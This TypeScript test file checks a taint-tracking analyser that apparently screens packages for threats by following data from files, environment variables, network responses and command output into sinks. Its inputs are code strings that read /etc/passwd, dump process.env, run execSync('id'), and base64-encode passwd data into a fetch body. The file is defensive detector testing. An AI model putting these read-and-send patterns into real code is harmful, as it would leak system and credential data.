/** What values are made of, wherever they go. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Labels } from '../../../../src/admission/threat/facts.ts';
import { LABELS } from '../../../../src/admission/threat/labels.ts';
import { seenValue, useOf } from './facts-of.ts';

const { file, environment, network, caller, encoded, output } = LABELS;
const READ = 'const fs = require("fs"); const data = fs.readFileSync("/etc/passwd", "utf8")';

/** The label that must be in what is seen, how it gets there. */
const FLOWS: readonly (readonly [Labels, string])[] = [
  [file, `${READ}; seen(data)`],
  [file, `${READ}; seen("x" + data)`],
  [file, `${READ}; seen(\`x=\${data}\`)`],
  [file, `${READ}; seen({ body: data })`],
  [file, `${READ}; seen([1, [data]])`],
  [file, `${READ}; seen(JSON.stringify({ a: { b: data } }))`],
  [file, `${READ}; const o = {}; o.x = data; seen(o)`],
  [file, `${READ}; const o = {}; o[k] = data; seen(o.y)`],
  [file, `${READ}; const l = []; l.push(data); seen(l)`],
  [file, `${READ}; const l = []; for (const x of y) l.push(data); seen(l.join(""))`],
  [file, `${READ}; let s = ""; for (const x of data) s += x; seen(s)`],
  [file, `${READ}; let s; if (x) s = data; seen(s)`],
  [file, `${READ}; const { length } = data; seen(length)`],
  [file, `${READ}; const [first, ...rest] = data.split(":"); seen(rest)`],
  [file, `${READ}; const f = (x) => x; seen(f(data))`],
  [file, `${READ}; function f(x) { return { y: x } } seen(f(data).y)`],
  [file, `${READ}; function f() { return seen(data) }`],
  [file, `${READ}; data.split("\\n").map((line) => seen(line))`],
  [file, `${READ}; seen(unknown(data))`],
  [file, `${READ}; seen(x ? data : 1)`],
  [file, `${READ}; seen(x || data)`],
  [
    file,
    `${READ}; class A { constructor(d) { this.d = d } go() { seen(this.d) } } new A(data).go()`,
  ],
  [file, `${READ}; const m = new Map(); const o = { ...{ data } }; seen(o.data)`],
  [file, `${READ}; (function () { seen(arguments[0]) })(data)`],
  [file, `${READ}; (function (...all) { seen(all[0]) })(data)`],
  [file, `${READ}; Object.assign({}, { data }); seen(Object.assign({}, { data }))`],
  [file, `${READ}; seen.apply(null, [data])`],
  [file, `${READ}; Promise.resolve(data).then((d) => seen(d))`],
  [file, `require("fs").readFile("x", (error, d) => seen(d))`],
  [file, `require("fs").readFile("x", function done(error, d) { seen(d) })`],
  [file, `require("fs").promises.readFile("x").then((d) => d).then((d) => seen(d))`],
  [file, `(async () => { const d = await require("fs/promises").readFile("x"); seen(d) })()`],
  [
    file,
    `new Promise((done) => require("fs").readFile("x", (e, d) => done(d))).then((d) => seen(d))`,
  ],
  [environment, 'seen(process.env)'],
  [environment, 'seen(process.env.HOME)'],
  [environment, 'const { env } = process; seen(JSON.stringify(env))'],
  [environment, 'import { env } from "process"; seen(env.HOME)'],
  [network, 'fetch("http://example.invalid").then((r) => r.text()).then((t) => seen(t))'],
  [network, 'require("https").get("x", (res) => res.on("data", (chunk) => seen(chunk)))'],
  [
    network,
    'let all = ""; require("https").get("x", (r) => { r.on("data", (c) => { all += c }); r.on("end", () => seen(all)) })',
  ],
  [output, 'seen(require("child_process").execSync("id"))'],
  [output, 'require("child_process").exec("id", (e, out) => seen(out))'],
  [caller, 'module.exports = function (x) { seen(x) }'],
  [caller, 'exports.run = ({ x }) => seen(x)'],
  [caller, 'module.exports = { run(x) { seen(x) } }'],
  [caller, 'export function run(x) { seen(x) }'],
  [caller, 'export default (x) => seen(x)'],
  [caller, 'export default class { run(x) { seen(x) } }'],
  [caller, 'const run = (x) => seen(x); export { run as default }'],
  [encoded, `${READ}; seen(btoa(data))`],
];

for (const [label, source] of FLOWS) {
  test(source, () => {
    const [value] = useOf(source, 'global.seen').args;
    assert.notEqual((value?.labels ?? 0) & label, 0);
  });
}

test('labels do not come from nowhere', () => {
  assert.equal(seenValue('x', READ).labels, 0);
  assert.equal(seenValue('{ a: 1 }'.replace(/^/, '(').concat(')')).labels, 0);
  assert.equal(useOf('function f(x) { seen(x) } f(1)', 'global.seen').args[0]?.labels, 0);
  assert.equal(useOf(`${READ}; let d = data; d = 1; seen(d)`, 'global.seen').args[0]?.labels, 0);
});

test('a value tells the uses that it came from, in order', () => {
  const { args } = useOf(`${READ}; const e = btoa(data); fetch("x", { body: e })`, 'global.fetch');
  assert.deepEqual(
    args[1]?.origins.map(({ path }) => path),
    ['node:fs.readFileSync', 'global.btoa'],
  );
});
